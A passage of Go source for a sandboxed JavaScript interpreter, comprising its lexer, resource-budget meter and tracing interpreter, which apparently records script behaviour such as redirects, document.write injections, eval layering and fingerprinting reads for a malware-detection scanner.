// ExternalInterface calls from Flash glue, and fingerprinting API touches.
//
// The dialect covers everything the synthetic web generator emits and the
// paper's published code snippets use: var declarations, assignments
// (including member chains like window.location.href), if/else, function
// calls, string concatenation, and the standard deobfuscation builtins
// (unescape, decodeURIComponent, atob, String.fromCharCode, eval).
package jsengine

import (
	"fmt"
	"strings"
	"sync"
)

type tokenKind int

const (
	tokEOF tokenKind = iota + 1
	tokIdent
	tokNumber
	tokString
	tokPunct // single or multi char punctuation: ( ) { } [ ] ; , . + = == === != !== < > && || ! - * / :
)

type token struct {
	kind tokenKind
	text string
	pos  int
}

type lexer struct {
	src  string
	pos  int
	toks []token
}

// tokScratch recycles token slices. Every analyzed script body is lexed
// twice (static scan, then sandbox parse) and the tokens are dead as soon
// as each pass returns, so the slices — the lexer's dominant allocation —
// can be reused across scripts and goroutines.
var tokScratch = sync.Pool{New: func() any {
	s := make([]token, 0, 512)
	return &s
}}

func borrowToks() *[]token { return tokScratch.Get().(*[]token) }

func returnToks(p *[]token) {
	clear(*p) // drop string references so the pool never pins page bodies
	*p = (*p)[:0]
	tokScratch.Put(p)
}

// lex tokenizes src. It is forgiving: unknown bytes are skipped so that the
// analyzer never chokes on exotic malware text; the parser decides what is
// usable.
func lex(src string) []token {
	return lexInto(src, nil)
}

// lexInto is lex writing into a reusable scratch slice (reset to length
// zero first).
func lexInto(src string, scratch []token) []token {
	toks, _ := lexIntoCap(src, scratch, 0)
	return toks
}

// lexIntoCap is lexInto with a token cap (0 = uncapped): once max tokens
// have been produced, lexing stops and truncated is true. The sandbox
// parser caps the stream at its remaining fuel so a fuel-starved parse of
// an enormous script does not lex the whole thing first.
func lexIntoCap(src string, scratch []token, max int) (toks []token, truncated bool) {
	l := &lexer{src: src, toks: scratch[:0]}
	for l.pos < len(l.src) {
		if max > 0 && len(l.toks) >= max {
			return l.toks, true
		}
		c := l.src[l.pos]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r':
			l.pos++
		case c == '/' && l.peekAt(1) == '/':
			l.skipLineComment()
		case c == '/' && l.peekAt(1) == '*':
			l.skipBlockComment()
		case c == '\'' || c == '"':
			l.lexString(c)
		case c >= '0' && c <= '9':
			l.lexNumber()
		case isIdentStart(c):
			l.lexIdent()
		default:
			l.lexPunct()
		}
	}
	l.toks = append(l.toks, token{kind: tokEOF, pos: l.pos})
	return l.toks, false
}

func (l *lexer) peekAt(off int) byte {
	if l.pos+off < len(l.src) {
		return l.src[l.pos+off]
	}
	return 0
}

func (l *lexer) skipLineComment() {
	for l.pos < len(l.src) && l.src[l.pos] != '\n' {
		l.pos++
	}
}

func (l *lexer) skipBlockComment() {
	l.pos += 2
	for l.pos+1 < len(l.src) {
		if l.src[l.pos] == '*' && l.src[l.pos+1] == '/' {
			l.pos += 2
			return
		}
		l.pos++
	}
	l.pos = len(l.src)
}

func (l *lexer) lexString(quote byte) {
	start := l.pos
	l.pos++
	var b strings.Builder
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if c == '\\' && l.pos+1 < len(l.src) {
			next := l.src[l.pos+1]
			switch next {
			case 'n':
				b.WriteByte('\n')
			case 't':
				b.WriteByte('\t')
			case 'r':
				b.WriteByte('\r')
			case 'x':
				if l.pos+3 < len(l.src) {
					hi, ok1 := hexVal(l.src[l.pos+2])
					lo, ok2 := hexVal(l.src[l.pos+3])
					if ok1 && ok2 {
						b.WriteByte(byte(hi<<4 | lo))
						l.pos += 4
						continue
					}
				}
				b.WriteByte('x')
			case 'u':
				if l.pos+5 < len(l.src) {
					v := 0
					ok := true
					for i := 0; i < 4; i++ {
						d, dok := hexVal(l.src[l.pos+2+i])
						if !dok {
							ok = false
							break
						}
						v = v<<4 | d
					}
					if ok {
						b.WriteRune(rune(v))
						l.pos += 6
						continue
					}
				}
				b.WriteByte('u')
			default:
				b.WriteByte(next)
			}
			l.pos += 2
			continue
		}
		if c == quote {
			l.pos++
			l.toks = append(l.toks, token{kind: tokString, text: b.String(), pos: start})
			return
		}
		b.WriteByte(c)
		l.pos++
	}
	// Unterminated string: emit what we have.
	l.toks = append(l.toks, token{kind: tokString, text: b.String(), pos: start})
}

func hexVal(c byte) (int, bool) {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0'), true
	case c >= 'a' && c <= 'f':
		return int(c-'a') + 10, true
	case c >= 'A' && c <= 'F':
		return int(c-'A') + 10, true
	}
	return 0, false
}

func (l *lexer) lexNumber() {
	start := l.pos
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if (c >= '0' && c <= '9') || c == '.' || c == 'x' || c == 'X' ||
			(c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F') {
			l.pos++
			continue
		}
		break
	}
	l.toks = append(l.toks, token{kind: tokNumber, text: l.src[start:l.pos], pos: start})
}

func isIdentStart(c byte) bool {
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c == '_' || c == '$'
}

func isIdentByte(c byte) bool {
	return isIdentStart(c) || (c >= '0' && c <= '9')
}

func (l *lexer) lexIdent() {
	start := l.pos
	for l.pos < len(l.src) && isIdentByte(l.src[l.pos]) {
		l.pos++
	}
	l.toks = append(l.toks, token{kind: tokIdent, text: l.src[start:l.pos], pos: start})
}

// multi-char punctuation, longest match first.
var punctTable = []string{
	"===", "!==", "==", "!=", "<=", ">=", "&&", "||", "+=", "-=", "++", "--",
	"(", ")", "{", "}", "[", "]", ";", ",", ".", "+", "-", "*", "/", "%",
	"=", "<", ">", "!", ":", "?",
}

func (l *lexer) lexPunct() {
	rest := l.src[l.pos:]
	for _, p := range punctTable {
		if strings.HasPrefix(rest, p) {
			l.toks = append(l.toks, token{kind: tokPunct, text: p, pos: l.pos})
			l.pos += len(p)
			return
		}
	}
	// Unknown byte: skip it.
	l.pos++
}

func (t token) String() string {
	return fmt.Sprintf("%d:%q", t.kind, t.text)
}
