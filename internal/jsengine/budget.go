package jsengine

import (
	"errors"
	"math"
	"time"
)

// Code identifies why the sandbox stopped a script. Codes are stable API:
// callers match on them (scanner verdicts, obs counters, fuzz oracles), so
// their spelling never changes.
type Code string

// The sandbox error taxonomy. The first four are resource violations — a
// script that trips one was stopped by the VM, not by its own logic — and
// the scanner treats them as a behaviour signal. EVAL_ERROR covers
// everything else: syntax errors, eval-depth and call-stack overruns,
// scripts too complex to parse.
const (
	CodeTimeout       Code = "TIMEOUT"
	CodeFuelExhausted Code = "FUEL_EXHAUSTED"
	CodeHeapLimit     Code = "HEAP_LIMIT"
	CodeOutputLimit   Code = "OUTPUT_LIMIT"
	CodeEvalError     Code = "EVAL_ERROR"
)

// Resource reports whether the code is a resource violation (as opposed to
// a script-level evaluation failure). Only resource codes feed the
// SandboxTripped malice signal: a benign script with a syntax error must
// not look like a bomb.
func (c Code) Resource() bool {
	switch c {
	case CodeTimeout, CodeFuelExhausted, CodeHeapLimit, CodeOutputLimit:
		return true
	}
	return false
}

// SandboxError is the structured execution error returned by ExecuteBudget.
// Resource-coded instances are uncatchable by in-script try/catch, exactly
// like a real VM's own limits.
type SandboxError struct {
	Code   Code
	Detail string
}

func (e *SandboxError) Error() string {
	return "jsengine: " + string(e.Code) + ": " + e.Detail
}

// CodeOf extracts the sandbox code from an error returned by ExecuteBudget
// or Analyze. ok is false for nil and for foreign errors.
func CodeOf(err error) (Code, bool) {
	var se *SandboxError
	if errors.As(err, &se) {
		return se.Code, true
	}
	return "", false
}

// The resource-trip singletons carry static details so the same (src,
// budget) pair always produces byte-identical error text.
var (
	errTimeout       = &SandboxError{Code: CodeTimeout, Detail: "wall clock budget exceeded"}
	errFuelExhausted = &SandboxError{Code: CodeFuelExhausted, Detail: "fuel budget exhausted"}
	errHeapLimit     = &SandboxError{Code: CodeHeapLimit, Detail: "heap byte budget exceeded"}
	errOutputLimit   = &SandboxError{Code: CodeOutputLimit, Detail: "output byte budget exceeded"}
	errEvalDepth     = &SandboxError{Code: CodeEvalError, Detail: "eval depth limit exceeded"}
	errCallDepth     = &SandboxError{Code: CodeEvalError, Detail: "call stack depth exceeded"}
	errExprDepth     = &SandboxError{Code: CodeEvalError, Detail: "expression depth limit exceeded"}
)

// asSandbox normalizes any execution error to a *SandboxError, so the
// error out of ExecuteBudget always carries a code.
func asSandbox(err error) *SandboxError {
	var se *SandboxError
	if errors.As(err, &se) {
		return se
	}
	return &SandboxError{Code: CodeEvalError, Detail: err.Error()}
}

// Budget bounds one sandbox execution. Every field is taken literally by
// ExecuteBudget (zero fuel means zero fuel); use withDefaults or
// DefaultBudget to fill unset fields. Wall == 0 disables the wall-clock
// guard, which keeps fuzz oracles fully deterministic.
type Budget struct {
	// Fuel is the total work allowance: one unit per AST step, plus
	// surcharges for expensive operations (parsing, string concatenation,
	// array growth, eval). See DESIGN.md for the charging table.
	Fuel int64
	// HeapBytes caps cumulative interned bytes: source text, concatenated
	// strings, decoded payloads, array backing growth.
	HeapBytes int64
	// OutputBytes caps cumulative trace output: document.write bodies,
	// navigation/popup targets, external calls, fingerprint keys.
	OutputBytes int64
	// EvalDepth caps eval() nesting.
	EvalDepth int
	// Wall is the wall-clock backstop. At default fuel the fuel limit
	// always trips first; the wall guard only matters for budgets sized
	// far above the defaults.
	Wall time.Duration
}

// DefaultBudget is the production budget: generous enough that every
// legitimate script in the synthetic universe runs to completion, small
// enough that bombs die in milliseconds. Fuel matches the interpreter's
// historical step limit and OutputBytes its historical write cap, so
// default-budget traces are unchanged.
func DefaultBudget() Budget {
	return Budget{
		Fuel:        500000,
		HeapBytes:   16 << 20,
		OutputBytes: 2 << 20,
		EvalDepth:   16,
		Wall:        5 * time.Second,
	}
}

// withDefaults fills non-positive fields from DefaultBudget, so partial
// budgets (a CLI that only sets -js-fuel) behave sensibly.
func (b Budget) withDefaults() Budget {
	d := DefaultBudget()
	if b.Fuel <= 0 {
		b.Fuel = d.Fuel
	}
	if b.HeapBytes <= 0 {
		b.HeapBytes = d.HeapBytes
	}
	if b.OutputBytes <= 0 {
		b.OutputBytes = d.OutputBytes
	}
	if b.EvalDepth <= 0 {
		b.EvalDepth = d.EvalDepth
	}
	if b.Wall <= 0 {
		b.Wall = d.Wall
	}
	return b
}

// meter tracks consumption against a Budget across one execution: the
// lexer, parser and interpreter all charge the same meter.
type meter struct {
	b        Budget
	fuelUsed int64
	heapUsed int64
	outUsed  int64
	deadline time.Time
	tick     int
}

func newMeter(b Budget) *meter {
	m := &meter{b: b}
	if b.Wall > 0 {
		m.deadline = time.Now().Add(b.Wall)
	}
	return m
}

// charge burns n fuel units. On exhaustion fuelUsed is clamped to the
// budget so Trace.FuelUsed never exceeds it. The wall clock is sampled
// every 4096 charges — cheap, and at default budgets fuel trips long
// before the deadline, keeping traces deterministic.
func (m *meter) charge(n int64) error {
	if n > math.MaxInt64-m.fuelUsed {
		m.fuelUsed = m.b.Fuel
		return errFuelExhausted
	}
	m.fuelUsed += n
	if m.fuelUsed > m.b.Fuel {
		m.fuelUsed = m.b.Fuel
		return errFuelExhausted
	}
	m.tick++
	if m.tick&4095 == 0 && !m.deadline.IsZero() && time.Now().After(m.deadline) {
		return errTimeout
	}
	return nil
}

// fuelLeft returns the remaining fuel (never negative).
func (m *meter) fuelLeft() int64 {
	if m.fuelUsed >= m.b.Fuel {
		return 0
	}
	return m.b.Fuel - m.fuelUsed
}

// chargeHeap accounts n freshly interned bytes.
func (m *meter) chargeHeap(n int64) error {
	if n < 0 || n > math.MaxInt64-m.heapUsed {
		m.heapUsed = m.b.HeapBytes
		return errHeapLimit
	}
	m.heapUsed += n
	if m.heapUsed > m.b.HeapBytes {
		m.heapUsed = m.b.HeapBytes
		return errHeapLimit
	}
	return nil
}

// takeOutput reserves up to n output bytes and returns how many fit. A
// short return means the budget tripped mid-write: the caller records the
// kept prefix (the deterministic partial trace) and propagates the error.
func (m *meter) takeOutput(n int64) (int64, error) {
	if n < 0 {
		return 0, errOutputLimit
	}
	room := m.b.OutputBytes - m.outUsed
	if room < 0 {
		room = 0
	}
	if n <= room {
		m.outUsed += n
		return n, nil
	}
	m.outUsed = m.b.OutputBytes
	return room, errOutputLimit
}

// chargeOutput is takeOutput for sinks that cannot partially record.
func (m *meter) chargeOutput(n int64) error {
	if kept, err := m.takeOutput(n); err != nil || kept < n {
		return errOutputLimit
	}
	return nil
}
