package jsengine

import (
	"encoding/base64"
	"errors"
	"fmt"
	"math"
	"net/url"
	"strconv"
	"strings"
)

// Trace is the behaviour record produced by sandbox execution. It is what
// the heuristic scanner inspects to classify a script.
type Trace struct {
	// Writes collects HTML fragments passed to document.write/writeln —
	// the vehicle for dynamically injected iframes (paper §V-A, Code 3).
	Writes []string
	// Navigations collects URLs assigned to window.location(.href) — the
	// vehicle for suspicious redirection and deceptive downloads (§V-B,
	// §V-C).
	Navigations []string
	// Popups collects window.open targets — the ad-scam behaviour of the
	// ExternalInterface Flash glue (§V-D).
	Popups []string
	// ExternalCalls collects ExternalInterface.call invocations.
	ExternalCalls []string
	// FingerprintReads collects fingerprinting API touches (navigator.*,
	// screen.*, mouse/keyboard event hooks) — the "user behavior
	// fingerprinting" the paper observes (§IV-A-1).
	FingerprintReads []string
	// Evals counts eval() invocations; EvalDepth is the deepest nesting —
	// a direct measure of obfuscation layering.
	Evals     int
	EvalDepth int
	// Timeouts counts setTimeout registrations (each is also executed).
	Timeouts int
	// Downloads collects URLs or data: payload names passed through
	// download-ish sinks (location assignments ending in .exe, data:
	// hrefs routed via navigation).
	Downloads []string
	// Steps is the number of interpreter steps consumed.
	Steps int
	// FuelUsed is the total fuel the execution burned: steps plus the
	// surcharges for parsing, concatenation, array growth and eval. It
	// never exceeds the budget's Fuel.
	FuelUsed int64
}

// Interpreter recursion guards. These bound Go-stack depth, not script
// work (fuel does that): legitimate decoders never approach them, and a
// script that does is stopped with an uncatchable EVAL_ERROR rather than
// overflowing the host stack.
const (
	maxCallDepth = 200
	maxExprDepth = 5000
)

// value is a JS runtime value.
type value interface{}

// jsUndefined is the undefined sentinel.
type jsUndefined struct{}

// object is a property bag.
type object struct {
	props map[string]value
	// class tags special host objects: "location", "window", "document",
	// "navigator", "screen", "element", "externalinterface".
	class string
}

func newObject(class string) *object {
	return &object{props: make(map[string]value), class: class}
}

// nativeFn is a built-in function.
type nativeFn struct {
	name string
	fn   func(in *interp, this value, args []value) (value, error)
}

// userFn is a script-defined function (closure over its defining env).
type userFn struct {
	params []string
	body   []node
	env    *env
}

// jsArray is an array value.
type jsArray struct{ elems []value }

// env is a lexical scope.
type env struct {
	vars   map[string]value
	parent *env
}

func (e *env) lookup(name string) (value, bool) {
	for s := e; s != nil; s = s.parent {
		if v, ok := s.vars[name]; ok {
			return v, true
		}
	}
	return nil, false
}

func (e *env) set(name string, v value) {
	for s := e; s != nil; s = s.parent {
		if _, ok := s.vars[name]; ok {
			s.vars[name] = v
			return
		}
	}
	// Undeclared assignment creates a global, as in sloppy-mode JS.
	root := e
	for root.parent != nil {
		root = root.parent
	}
	root.vars[name] = v
}

func (e *env) declare(name string, v value) { e.vars[name] = v }

// interp executes a parsed program and accumulates a Trace.
type interp struct {
	trace     *Trace
	global    *env
	m         *meter
	evalDepth int
	callDepth int
	exprDepth int
	location  *object
	document  *object
	window    *object
}

// Execute parses and runs src in a fresh sandbox under the default budget,
// returning the behaviour trace. Execution errors after partial progress
// still return the partial trace — malware frequently errors out after its
// payload has fired, and the trace up to that point is exactly what we
// want.
func Execute(src string) (*Trace, error) {
	return ExecuteBudget(src, DefaultBudget())
}

// ExecuteBudget runs src under an explicit resource budget. The budget is
// taken literally (zero fuel is zero fuel). A non-nil error is always a
// *SandboxError; match on CodeOf. Execution is deterministic: the same
// (src, budget) pair yields a byte-identical trace and error every run,
// provided the wall-clock guard did not fire.
func ExecuteBudget(src string, b Budget) (*Trace, error) {
	m := newMeter(b)
	prog, err := parseProgram(src, m)
	if err != nil {
		return &Trace{FuelUsed: m.fuelUsed}, asSandbox(err)
	}
	in := newInterp(m)
	err = in.runProgram(prog)
	in.trace.FuelUsed = m.fuelUsed
	if err != nil {
		return in.trace, asSandbox(err)
	}
	return in.trace, nil
}

func newInterp(m *meter) *interp {
	in := &interp{trace: &Trace{}, m: m}
	in.global = &env{vars: make(map[string]value)}
	in.installGlobals()
	return in
}

func (in *interp) runProgram(stmts []node) error {
	// Hoist function declarations first, as JS does.
	for _, s := range stmts {
		if f, ok := s.(stmtFunc); ok {
			in.global.declare(f.name, &userFn{params: f.params, body: f.body, env: in.global})
		}
	}
	for _, s := range stmts {
		if _, ok := s.(stmtFunc); ok {
			continue
		}
		if _, err := in.execStmt(s, in.global); err != nil {
			if errors.As(err, &returnSignal{}) {
				return nil
			}
			return err
		}
	}
	return nil
}

// returnSignal unwinds a user-function return through execStmt.
type returnSignal struct{ val value }

func (returnSignal) Error() string { return "return" }

// breakSignal and continueSignal unwind loop control through execStmt.
type breakSignal struct{}

func (breakSignal) Error() string { return "break" }

type continueSignal struct{}

func (continueSignal) Error() string { return "continue" }

func (in *interp) step() error {
	in.trace.Steps++
	return in.m.charge(1)
}

func (in *interp) execStmt(s node, e *env) (value, error) {
	if err := in.step(); err != nil {
		return nil, err
	}
	switch st := s.(type) {
	case stmtVar:
		var v value = jsUndefined{}
		if st.init != nil {
			var err error
			v, err = in.eval(st.init, e)
			if err != nil {
				return nil, err
			}
		}
		e.declare(st.name, v)
		return nil, nil
	case stmtAssign:
		return nil, in.execAssign(st, e)
	case stmtExpr:
		_, err := in.eval(st.expr, e)
		return nil, err
	case stmtIf:
		cond, err := in.eval(st.cond, e)
		if err != nil {
			return nil, err
		}
		branch := st.then
		if !truthy(cond) {
			branch = st.alt
		}
		for _, bs := range branch {
			if _, err := in.execStmt(bs, e); err != nil {
				return nil, err
			}
		}
		return nil, nil
	case stmtFunc:
		e.declare(st.name, &userFn{params: st.params, body: st.body, env: e})
		return nil, nil
	case stmtReturn:
		var v value = jsUndefined{}
		if st.expr != nil {
			var err error
			v, err = in.eval(st.expr, e)
			if err != nil {
				return nil, err
			}
		}
		return nil, returnSignal{val: v}
	case stmtBreak:
		return nil, breakSignal{}
	case stmtContinue:
		return nil, continueSignal{}
	case stmtTry:
		err := in.execBlock(st.body, e)
		if err == nil {
			return nil, nil
		}
		// Control-flow signals and sandbox aborts pass through; only
		// script-level errors are catchable (as in real JS, where the
		// VM's own limits cannot be caught either).
		switch err.(type) {
		case returnSignal, breakSignal, continueSignal:
			return nil, err
		}
		var se *SandboxError
		if errors.As(err, &se) {
			return nil, err
		}
		if st.handler == nil {
			return nil, nil // try without catch swallows the error
		}
		scope := &env{vars: make(map[string]value), parent: e}
		if st.catchName != "" {
			scope.declare(st.catchName, err.Error())
		}
		return nil, in.execBlock(st.handler, scope)
	case stmtWhile:
		for {
			// Each iteration costs a step even when the body is empty,
			// so `while(true){}` cannot outrun the limiter.
			if err := in.step(); err != nil {
				return nil, err
			}
			cond, err := in.eval(st.cond, e)
			if err != nil {
				return nil, err
			}
			if !truthy(cond) {
				return nil, nil
			}
			if stop, err := in.execLoopBody(st.body, e); stop || err != nil {
				return nil, err
			}
		}
	case stmtFor:
		if st.init != nil {
			if _, err := in.execStmt(st.init, e); err != nil {
				return nil, err
			}
		}
		for {
			if err := in.step(); err != nil {
				return nil, err
			}
			if st.cond != nil {
				cond, err := in.eval(st.cond, e)
				if err != nil {
					return nil, err
				}
				if !truthy(cond) {
					return nil, nil
				}
			}
			if stop, err := in.execLoopBody(st.body, e); stop || err != nil {
				return nil, err
			}
			if st.post != nil {
				if _, err := in.execStmt(st.post, e); err != nil {
					return nil, err
				}
			}
		}
	}
	return nil, fmt.Errorf("jsengine: unknown statement %T", s)
}

// execBlock runs statements in order, returning the first error.
func (in *interp) execBlock(body []node, e *env) error {
	for _, s := range body {
		if _, err := in.execStmt(s, e); err != nil {
			return err
		}
	}
	return nil
}

// execLoopBody runs one loop iteration, translating break into stop and
// continue into a normal iteration end. Returns and real errors pass
// through.
func (in *interp) execLoopBody(body []node, e *env) (stop bool, err error) {
	for _, bs := range body {
		if _, err := in.execStmt(bs, e); err != nil {
			switch err.(type) {
			case breakSignal:
				return true, nil
			case continueSignal:
				return false, nil
			default:
				return true, err
			}
		}
	}
	return false, nil
}

func (in *interp) execAssign(st stmtAssign, e *env) error {
	v, err := in.eval(st.value, e)
	if err != nil {
		return err
	}
	switch target := st.target.(type) {
	case identExpr:
		if st.op != "=" {
			old, _ := e.lookup(target.name)
			v, err = in.applyCompound(st.op, old, v)
			if err != nil {
				return err
			}
		}
		// Bare `location = url` is a navigation.
		if target.name == "location" {
			return in.recordNavigation(toString(v))
		}
		e.set(target.name, v)
		return nil
	case memberExpr:
		obj, err := in.eval(target.obj, e)
		if err != nil {
			return err
		}
		return in.setMember(obj, target.prop, v, st.op)
	case indexExpr:
		obj, err := in.eval(target.obj, e)
		if err != nil {
			return err
		}
		idx, err := in.eval(target.index, e)
		if err != nil {
			return err
		}
		if arr, ok := obj.(*jsArray); ok {
			i := int(toNumber(idx))
			if i >= 0 {
				// Growth is charged BEFORE any element is appended, so
				// `a[1e9] = 1` dies on the budget instead of allocating.
				if grow := int64(i) + 1 - int64(len(arr.elems)); grow > 0 {
					if err := in.m.charge(grow/16 + 1); err != nil {
						return err
					}
					if err := in.m.chargeHeap(grow * 16); err != nil {
						return err
					}
					for len(arr.elems) <= i {
						arr.elems = append(arr.elems, jsUndefined{})
					}
				}
				arr.elems[i] = v
			}
			return nil
		}
		if o, ok := obj.(*object); ok {
			o.props[toString(idx)] = v
		}
		return nil
	}
	return fmt.Errorf("jsengine: bad assignment target %T", st.target)
}

func (in *interp) applyCompound(op string, old, v value) (value, error) {
	switch op {
	case "+=":
		if _, ok := old.(string); ok {
			return in.concat(old, v)
		}
		if _, ok := v.(string); ok {
			return in.concat(old, v)
		}
		return toNumber(old) + toNumber(v), nil
	case "-=":
		return toNumber(old) - toNumber(v), nil
	}
	return v, nil
}

// concat builds l+r as a string, charging fuel proportional to the result
// and heap for the fresh bytes. Quadratic string builders and doubling
// bombs exhaust their budget within milliseconds instead of the old
// flat per-result length cap.
func (in *interp) concat(l, r value) (value, error) {
	ls, rs := toString(l), toString(r)
	n := int64(len(ls)) + int64(len(rs))
	if err := in.m.charge(1 + n/64); err != nil {
		return nil, err
	}
	if err := in.m.chargeHeap(n); err != nil {
		return nil, err
	}
	return ls + rs, nil
}

func (in *interp) setMember(obj value, prop string, v value, op string) error {
	o, ok := obj.(*object)
	if !ok {
		return nil // writing a property on a primitive: silently ignored
	}
	if op != "=" {
		var err error
		v, err = in.applyCompound(op, o.props[prop], v)
		if err != nil {
			return err
		}
	}
	switch {
	case o.class == "location" && (prop == "href" || prop == "replace"):
		return in.recordNavigation(toString(v))
	case (o.class == "window" || o.class == "document") && prop == "location":
		return in.recordNavigation(toString(v))
	case o.class == "document" && (strings.HasPrefix(prop, "onmouse") || strings.HasPrefix(prop, "onkey")):
		if err := in.recordFingerprint("document." + prop); err != nil {
			return err
		}
	}
	o.props[prop] = v
	return nil
}

func (in *interp) recordNavigation(target string) error {
	if err := in.m.chargeOutput(int64(len(target))); err != nil {
		return err
	}
	in.trace.Navigations = append(in.trace.Navigations, target)
	lower := strings.ToLower(target)
	if strings.Contains(lower, ".exe") || strings.HasPrefix(lower, "data:") {
		in.trace.Downloads = append(in.trace.Downloads, target)
	}
	return nil
}

// recordFingerprint appends a fingerprint-API touch, charged as output so
// a registration loop cannot grow the trace without bound.
func (in *interp) recordFingerprint(key string) error {
	if err := in.m.chargeOutput(int64(len(key))); err != nil {
		return err
	}
	in.trace.FingerprintReads = append(in.trace.FingerprintReads, key)
	return nil
}

func (in *interp) eval(n node, e *env) (value, error) {
	if err := in.step(); err != nil {
		return nil, err
	}
	// Bound expression-tree recursion: a 100k-term concat chain parses to
	// a 50k-deep left-leaning tree, and recursing it would exhaust the Go
	// stack long before the fuel runs out.
	in.exprDepth++
	if in.exprDepth > maxExprDepth {
		in.exprDepth--
		return nil, errExprDepth
	}
	v, err := in.evalNode(n, e)
	in.exprDepth--
	return v, err
}

func (in *interp) evalNode(n node, e *env) (value, error) {
	switch x := n.(type) {
	case stringExpr:
		return x.val, nil
	case numberExpr:
		return x.val, nil
	case boolExpr:
		return x.val, nil
	case identExpr:
		if x.name == "undefined" {
			return jsUndefined{}, nil
		}
		if v, ok := e.lookup(x.name); ok {
			return v, nil
		}
		// Unknown identifiers evaluate to undefined instead of throwing:
		// malware references browser APIs we do not model, and aborting
		// there would hide the behaviour that follows.
		return jsUndefined{}, nil
	case memberExpr:
		obj, err := in.eval(x.obj, e)
		if err != nil {
			return nil, err
		}
		return in.getMember(obj, x.prop)
	case indexExpr:
		obj, err := in.eval(x.obj, e)
		if err != nil {
			return nil, err
		}
		idx, err := in.eval(x.index, e)
		if err != nil {
			return nil, err
		}
		if arr, ok := obj.(*jsArray); ok {
			i := int(toNumber(idx))
			if i >= 0 && i < len(arr.elems) {
				return arr.elems[i], nil
			}
			return jsUndefined{}, nil
		}
		if s, ok := obj.(string); ok {
			i := int(toNumber(idx))
			if i >= 0 && i < len(s) {
				return s[i : i+1], nil
			}
			return jsUndefined{}, nil
		}
		return in.getMember(obj, toString(idx))
	case callExpr:
		return in.evalCall(x, e)
	case newExpr:
		// `new X(...)`: model as a plain object; Date gets a getTime.
		o := newObject("object")
		if id, ok := x.ctor.(identExpr); ok && id.name == "Date" {
			o.props["getTime"] = &nativeFn{name: "getTime", fn: func(*interp, value, []value) (value, error) {
				return float64(1450000000000), nil // fixed sandbox clock
			}}
		}
		return o, nil
	case binExpr:
		return in.evalBin(x, e)
	case unaryExpr:
		v, err := in.eval(x.x, e)
		if err != nil {
			return nil, err
		}
		switch x.op {
		case "!":
			return !truthy(v), nil
		case "-":
			return -toNumber(v), nil
		case "typeof":
			return typeOf(v), nil
		}
		return jsUndefined{}, nil
	case arrayExpr:
		arr := &jsArray{elems: make([]value, 0, len(x.elems))}
		for _, el := range x.elems {
			v, err := in.eval(el, e)
			if err != nil {
				return nil, err
			}
			arr.elems = append(arr.elems, v)
		}
		return arr, nil
	case funcExpr:
		return &userFn{params: x.params, body: x.body, env: e}, nil
	case objectExpr:
		obj := newObject("object")
		for i, key := range x.keys {
			v, err := in.eval(x.vals[i], e)
			if err != nil {
				return nil, err
			}
			obj.props[key] = v
		}
		return obj, nil
	case condExpr:
		c, err := in.eval(x.cond, e)
		if err != nil {
			return nil, err
		}
		if truthy(c) {
			return in.eval(x.then, e)
		}
		return in.eval(x.alt, e)
	case incExpr:
		old, err := in.eval(x.target, e)
		if err != nil {
			return nil, err
		}
		delta := 1.0
		if x.op == "--" {
			delta = -1
		}
		updated := toNumber(old) + delta
		if err := in.execAssign(stmtAssign{target: x.target, op: "=", value: numberExpr{val: updated}}, e); err != nil {
			return nil, err
		}
		if x.prefix {
			return updated, nil
		}
		return toNumber(old), nil
	}
	return nil, fmt.Errorf("jsengine: cannot evaluate %T", n)
}

func (in *interp) evalBin(x binExpr, e *env) (value, error) {
	l, err := in.eval(x.l, e)
	if err != nil {
		return nil, err
	}
	// Short-circuit logic operators.
	switch x.op {
	case "&&":
		if !truthy(l) {
			return l, nil
		}
		return in.eval(x.r, e)
	case "||":
		if truthy(l) {
			return l, nil
		}
		return in.eval(x.r, e)
	}
	r, err := in.eval(x.r, e)
	if err != nil {
		return nil, err
	}
	switch x.op {
	case "+":
		if _, ok := l.(string); ok {
			return in.concat(l, r)
		}
		if _, ok := r.(string); ok {
			return in.concat(l, r)
		}
		return toNumber(l) + toNumber(r), nil
	case "-":
		return toNumber(l) - toNumber(r), nil
	case "*":
		return toNumber(l) * toNumber(r), nil
	case "/":
		return toNumber(l) / toNumber(r), nil
	case "%":
		return math.Mod(toNumber(l), toNumber(r)), nil
	case "==", "===":
		return looseEq(l, r), nil
	case "!=", "!==":
		return !looseEq(l, r), nil
	case "<":
		return toNumber(l) < toNumber(r), nil
	case ">":
		return toNumber(l) > toNumber(r), nil
	case "<=":
		return toNumber(l) <= toNumber(r), nil
	case ">=":
		return toNumber(l) >= toNumber(r), nil
	}
	return jsUndefined{}, nil
}

func (in *interp) evalCall(x callExpr, e *env) (value, error) {
	// Evaluate callee; capture `this` for method calls.
	var this value = jsUndefined{}
	var fn value
	var err error
	if m, ok := x.fn.(memberExpr); ok {
		this, err = in.eval(m.obj, e)
		if err != nil {
			return nil, err
		}
		fn, err = in.getMember(this, m.prop)
		if err != nil {
			return nil, err
		}
	} else {
		fn, err = in.eval(x.fn, e)
		if err != nil {
			return nil, err
		}
	}
	args := make([]value, 0, len(x.args))
	for _, a := range x.args {
		v, err := in.eval(a, e)
		if err != nil {
			return nil, err
		}
		args = append(args, v)
	}
	return in.invoke(fn, this, args)
}

func (in *interp) invoke(fn value, this value, args []value) (value, error) {
	switch f := fn.(type) {
	case *nativeFn:
		return f.fn(in, this, args)
	case *userFn:
		in.callDepth++
		defer func() { in.callDepth-- }()
		if in.callDepth > maxCallDepth {
			return nil, errCallDepth
		}
		scope := &env{vars: make(map[string]value), parent: f.env}
		for i, p := range f.params {
			if i < len(args) {
				scope.declare(p, args[i])
			} else {
				scope.declare(p, jsUndefined{})
			}
		}
		for _, s := range f.body {
			if fdecl, ok := s.(stmtFunc); ok {
				scope.declare(fdecl.name, &userFn{params: fdecl.params, body: fdecl.body, env: scope})
			}
		}
		for _, s := range f.body {
			if _, ok := s.(stmtFunc); ok {
				continue
			}
			if _, err := in.execStmt(s, scope); err != nil {
				var rs returnSignal
				if errors.As(err, &rs) {
					return rs.val, nil
				}
				return nil, err
			}
		}
		return jsUndefined{}, nil
	case jsUndefined:
		// Calling an unmodeled API: a no-op returning undefined.
		return jsUndefined{}, nil
	}
	return jsUndefined{}, nil
}

// --- conversions ---

func truthy(v value) bool {
	switch x := v.(type) {
